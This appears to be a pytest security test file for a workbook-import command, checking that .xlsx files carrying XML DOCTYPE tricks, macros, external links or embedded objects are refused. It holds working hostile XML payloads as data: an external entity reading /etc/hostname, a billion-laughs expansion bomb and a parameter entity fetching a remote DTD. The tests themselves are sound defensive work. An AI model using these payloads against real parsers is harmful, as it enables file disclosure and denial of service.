"""T17: XML that would read files, expand without end, run a macro or fetch a link is refused."""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from tests.exchange.workbooks import repacked
from tests.threats.attacks import member, with_members
from tests.threats.conftest import Run

XXE = b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "ha">'
    + b"".join(f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">'.encode() for n in range(9))
    + b"]>"
)
PARAMETER = b'<!DOCTYPE x [<!ENTITY % p SYSTEM "http://x.example/e.dtd"> %p;]>'
PLAIN = b"<!DOCTYPE x>"
PARTS = (
    "xl/workbook.xml",
    "xl/_rels/workbook.xml.rels",
    "xl/sharedStrings.xml",
    "xl/styles.xml",
    "xl/worksheets/sheet2.xml",
    "[Content_Types].xml",
    "docProps/core.xml",
)


def declared(data: bytes, doctype: bytes, before: bytes = b"") -> bytes:
    head, mark, rest = data.partition(b"?>")
    return head + mark + before + doctype + rest


@pytest.mark.parametrize(
    ("part", "doctype"),
    [*((part, XXE) for part in PARTS), *((PARTS[2], each) for each in (LAUGHS, PARAMETER, PLAIN))],
)
def test_a_document_type_is_refused_in_every_part(
    run: Run, empty: Path, tmp_path: Path, part: str, doctype: bytes
) -> None:
    path = repacked(tmp_path / "w.xlsx", member(part, lambda data: declared(data, doctype)))

    ended = run(empty, "import", "workbook", path)

    assert (3, False) == (ended.status, ended.leaked)
    assert part in ended.said
    assert "DOCTYPE" in ended.said


def test_a_document_type_behind_much_talk_is_refused(run: Run, empty: Path, tmp_path: Path) -> None:
    talk = b"<!--" + b" talk" * 30_000 + b"-->"
    path = repacked(
        tmp_path / "w.xlsx",
        member("xl/sharedStrings.xml", lambda data: declared(data, XXE, talk)),
    )

    ended = run(empty, "import", "workbook", path)

    assert 3 == ended.status
    assert "DOCTYPE" in ended.said


def test_a_document_type_in_another_encoding_is_refused(
    run: Run, empty: Path, tmp_path: Path
) -> None:
    def wide(data: bytes) -> bytes:
        text = declared(data, XXE).decode().replace("UTF-8", "UTF-16")
        return text.encode("utf-16")

    path = repacked(tmp_path / "w.xlsx", member("xl/sharedStrings.xml", wide))

    ended = run(empty, "import", "workbook", path)

    assert 3 == ended.status
    assert "DOCTYPE" in ended.said


def test_an_entity_that_was_never_declared_is_told(run: Run, empty: Path, tmp_path: Path) -> None:
    def used(data: bytes) -> bytes:
        return data.replace("现状值".encode(), b"&e;").replace(b"<t>", b"<t>&e;", 1)

    path = repacked(tmp_path / "w.xlsx", member("xl/sharedStrings.xml", used))

    ended = run(empty, "import", "workbook", path)

    assert (3, False) == (ended.status, ended.leaked)


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("xl/vbaProject.bin", "宏"),
        ("xl/VBAPROJECT.BIN", "宏"),
        ("xl/macrosheets/sheet1.xml", "宏表"),
        ("xl/externalLinks/externalLink1.xml", "外部文件"),
        ("xl/embeddings/oleObject1.bin", "嵌入"),
        ("xl/activeX/activeX1.bin", "控件"),
    ],
)
def test_what_could_act_is_refused_by_name(
    run: Run, empty: Path, tmp_path: Path, name: str, said: str
) -> None:
    ended = run(empty, "import", "workbook", with_members(tmp_path / "w.xlsx", (name, b"<a/>")))

    assert (3, False) == (ended.status, ended.leaked)
    assert name in ended.said
    assert said in ended.said


def test_the_untouched_template_passes(run: Run, empty: Path, tmp_path: Path) -> None:
    path = repacked(tmp_path / "w.xlsx")
    with zipfile.ZipFile(path) as plain:
        assert set(PARTS) <= set(plain.namelist())

    assert 0 == run(empty, "import", "workbook", path).status
